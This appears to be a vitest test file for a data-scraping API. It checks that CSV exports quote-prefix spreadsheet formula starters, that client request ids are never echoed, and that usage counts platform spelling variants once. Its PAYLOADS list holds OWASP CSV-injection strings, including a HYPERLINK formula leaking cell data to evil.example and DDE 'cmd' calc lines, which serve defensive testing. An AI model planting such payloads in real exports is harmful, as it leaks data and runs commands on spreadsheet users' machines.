// What the service writes back carries nothing a client or a scraped page chose where it would be
// trusted: no CSV cell a spreadsheet would run as a formula, no request id of the client's, and no
// usage row per spelling of a platform.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../src/csv";
import { newId } from "../../src/db/keys";
import { jobAnswerKey } from "../../src/db/objects";
import { database } from "../../src/db/client";
import { testJobRow } from "../workers/job-fixtures";
import { insertJob } from "../../src/db/jobs";
import { cacheKey } from "../../src/scrape/cache";
import type { HotelRecord, HotelSearchPage } from "../../src/platforms/hotel-types";
import { call, env, newAccount, withKey } from "../workers/helpers";
import { addPublicDataset, importRecords } from "../workers/dataset-fixtures";

/** OWASP's formula starters, each as a scraped string would bring it, and a line break before one. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const LINE_BREAK_PAYLOAD = 'Quiet room\n=HYPERLINK("http://evil.example","x")';
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/**
 * The CSV as a spreadsheet splits it (a bare CR or LF ends a row too), checked cell by cell: every
 * row as wide as the header, and no cell that starts a formula unless it is a number.
 */
function spreadsheetCells(csv: string): string[][] {
  const rows = parse(csv, { record_delimiter: ["\r\n", "\n", "\r"], relax_column_count: true }) as string[][];
  const width = rows[0]!.length;
  for (const row of rows) {
    expect(row.length, `row ${JSON.stringify(row)}`).toBe(width);
    for (const cell of row)
      expect(FORMULA_START.test(cell) && !NUMBER.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
  }
  return rows;
}

/** Each payload, neutralised as OWASP says: the same text after a single quote. */
function expectNeutralised(cells: string[]) {
  for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
  expect(cells).toContain(LINE_BREAK_PAYLOAD);
}

describe("CSV cells never start a formula", () => {
  it("prefixes every formula starter with a quote in the one CSV writer, and keeps numbers as numbers", () => {
    const rows = [...PAYLOADS, LINE_BREAK_PAYLOAD].map((title, i) => ({ id: i, title, change: -5, label: "-5" }));
    const parsed = spreadsheetCells(toCsv(rows));
    expect(parsed[0]).toEqual(["id", "title", "change", "label"]);
    expectNeutralised(parsed.map((row) => row[1]!));
    // A negative number stays a number; a string that merely looks like one is text and is quoted.
    expect(new Set(parsed.slice(1).map((row) => row[2]))).toEqual(new Set(["-5"]));
    expect(new Set(parsed.slice(1).map((row) => row[3]))).toEqual(new Set(["'-5"]));
  });

  it("neutralises scraped hotel names in a travel search's CSV", async () => {
    const { secret } = await newAccount({ plan: "enterprise" });
    await seedHotelSearch("booking", [...PAYLOADS, LINE_BREAK_PAYLOAD]);
    const response = await call(`/v1/travel/booking/hotels/search?${STAY}&format=csv`, withKey(secret));
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toContain("text/csv");
    const rows = spreadsheetCells(await response.text());
    const name = rows[0]!.indexOf("name");
    expectNeutralised(rows.slice(1).map((row) => row[name]!));
  });

  it("neutralises record values in a streamed dataset CSV, and dataset text in the list and search CSVs", async () => {
    const { secret } = await newAccount({ plan: "enterprise" });
    const slug = await seedDataset([...PAYLOADS, LINE_BREAK_PAYLOAD]);
    const records = await call(`/v1/datasets/${slug}/records?format=csv&fields=title,position`, withKey(secret));
    expect(records.status).toBe(200);
    const rows = spreadsheetCells(await records.text());
    expect(rows[0]).toEqual(["title", "position"]);
    expectNeutralised(rows.slice(1).map((row) => row[0]!));
    expect(rows.slice(1).map((row) => row[1])).toEqual(Array(PAYLOADS.length + 1).fill("-5"));

    for (const path of [`/v1/datasets?q=formulaprobe&format=csv`, `/v1/search?q=formulaprobe&format=csv`]) {
      const listed = await call(path, withKey(secret, { headers: { Accept: "text/csv" } }));
      expect(listed.status, path).toBe(200);
      const cells = spreadsheetCells(await listed.text()).flat();
      expect(cells, path).toContain(`'${DATASET_NAME}`);
    }
  });

  it("neutralises a job's stored answers and error messages in its results CSV", async () => {
    const account = await newAccount({ plan: "enterprise" });
    const id = await finishedJob(account, PAYLOADS[0]!, PAYLOADS[3]!);
    const response = await call(`/v1/jobs/${id}/results?format=csv`, withKey(account.secret));
    expect(response.status).toBe(200);
    const rows = spreadsheetCells(await response.text());
    expect(rows[0]).toEqual(["index", "path", "status", "http_status", "error_code", "error_message", "title"]);
    expect(rows[1]![6]).toBe(`'${PAYLOADS[0]}`);
    expect(rows[2]![5]).toBe(`'${PAYLOADS[3]}`);
  });
});

describe("request ids are the service's own", () => {
  const ATTACKER = "attacker-value";
  const OUR_ID = /^req_[0-9a-f]{32}$/;

  it("never echoes a client's X-Request-Id, in the header or the envelope, on any kind of answer", async () => {
    const { secret } = await newAccount();
    const answers = {
      public: await call("/v1/health", { headers: { "X-Request-Id": ATTACKER } }),
      keyed: await call("/v1/usage", withKey(secret, { headers: { "X-Request-Id": ATTACKER } })),
      refused: await call("/v1/usage", { headers: { "X-Request-Id": ATTACKER } }),
      unknown: await call("/v1/nowhere/at/all", withKey(secret, { headers: { "X-Request-Id": ATTACKER } })),
      csv: await call("/v1/categories?format=csv", withKey(secret, { headers: { "X-Request-Id": ATTACKER } })),
      stream: await call(
        "/v1/datasets/hotel-rates-paris/records?format=ndjson&limit=2",
        withKey(secret, { headers: { "X-Request-Id": ATTACKER } }),
      ),
    };
    const ids = new Set<string>();
    for (const [kind, response] of Object.entries(answers)) {
      const id = response.headers.get("X-Request-Id") ?? "";
      expect(id, kind).toMatch(OUR_ID);
      ids.add(id);
      const body = await response.text();
      expect(body, kind).not.toContain(ATTACKER);
      if (kind !== "csv" && kind !== "stream") expect(JSON.parse(body).meta.request_id, kind).toBe(id);
    }
    expect(ids.size).toBe(Object.keys(answers).length);
  });
});

describe("usage counts a platform once, however it is spelled", () => {
  it("records case, space, order and repeat variants of a travel platform as one endpoint row each", async () => {
    const { accountId, secret } = await newAccount({ plan: "enterprise" });
    await seedHotelSearch("booking", ["Alpha House"]);
    await seedHotelSearch("expedia", ["Bravo Rooms"]);
    const single = ["booking", "Booking", "%20BOOKING", "booking%20"];
    const pair = ["booking,expedia", "booking,%20expedia", "EXPEDIA,Booking", "booking,booking,expedia"];
    for (const platform of [...single, ...pair]) {
      const response = await call(`/v1/travel/${platform}/hotels/search?${STAY}`, withKey(secret));
      expect(response.status, platform).toBe(200);
    }

    const limiter = env.ACCOUNT_METER.get(env.ACCOUNT_METER.idFromName(`account:${accountId}`));
    let rows: { endpoint: string; count: number }[] = [];
    // Counts reach the limiter after the answers (carried with the next call, or sent alone shortly after).
    for (let tries = 0; tries < 50; tries++) {
      rows = (await limiter.endpointUsage("2000-01-01")).filter((row) => row.endpoint.includes("/travel/"));
      if (rows.reduce((sum, row) => sum + row.count, 0) >= single.length + pair.length) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(rows.map(({ endpoint, count }) => ({ endpoint, count }))).toEqual([
      { endpoint: "GET /v1/travel/booking,expedia/hotels/search", count: pair.length },
      { endpoint: "GET /v1/travel/booking/hotels/search", count: single.length },
    ]);
  });
});

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const CHECK_IN = day(40);
const CHECK_OUT = day(42);
const STAY = `destination=Dublin&check_in=${CHECK_IN}&check_out=${CHECK_OUT}`;

/** A site's first page of Dublin hotels, put where the search route's scrape looks first (no site is reached). */
async function seedHotelSearch(platform: string, names: string[]) {
  const hotels = names.map((name) => ({ id: null, name, amenities: [], sponsored: false }) as unknown as HotelRecord);
  const query = {
    destination: "Dublin",
    checkIn: CHECK_IN,
    checkOut: CHECK_OUT,
    adults: 2,
    children: [],
    rooms: 1,
    page: 1,
  };
  const record: HotelSearchPage = { hotels, total_results: hotels.length, has_next_page: false };
  const meta = { source_url: `https://${platform}.example/`, engine: "fetch", proxy: null, captcha: "none" };
  await env.CACHE.put(
    await cacheKey(platform, "hotel-search", query),
    JSON.stringify({ record, meta, fetchedAt: Date.now() }),
  );
}

const DATASET_NAME = "@SUM(1+1) formulaprobe";

/** A dataset of this test's own (storage is per test) whose records hold `titles`. */
async function seedDataset(titles: string[]): Promise<string> {
  const slug = await addPublicDataset("formula-probe", DATASET_NAME);
  await importRecords(
    slug,
    titles.map((title, n) => ({ key: `probe:${n}`, title, position: -5 })),
  );
  return slug;
}

/** A finished two-item job of the account: item 0's stored answer is `data`, item 1 failed with `errorMessage`. */
async function finishedJob(account: { accountId: string; keyId: string }, data: string, errorMessage: string) {
  const id = newId("job");
  const created = Date.now();
  await insertJob(
    database(env.DB),
    testJobRow({ accountId: account.accountId, keyId: account.keyId }, 2, {
      id,
      status: "completed",
      createdAt: new Date(created),
      expiresAt: new Date(created + 86_400_000),
    }),
    ["/v1/amazon?asin=B0C1GHS4GF", "/v1/amazon?asin=B08DF9F814"],
  );
  await env.DB.prepare(`UPDATE job_items SET status = 'succeeded', http_status = 200 WHERE job_id = ? AND idx = 0`)
    .bind(id)
    .run();
  await env.RESULTS.put(jobAnswerKey(id, 0), JSON.stringify({ status: "success", data: { title: data } }));
  await env.DB.prepare(
    `UPDATE job_items SET status = 'failed', http_status = 502, error_code = 'upstream_blocked', error_message = ? WHERE job_id = ? AND idx = 1`,
  )
    .bind(errorMessage, id)
    .run();
  return id;
}
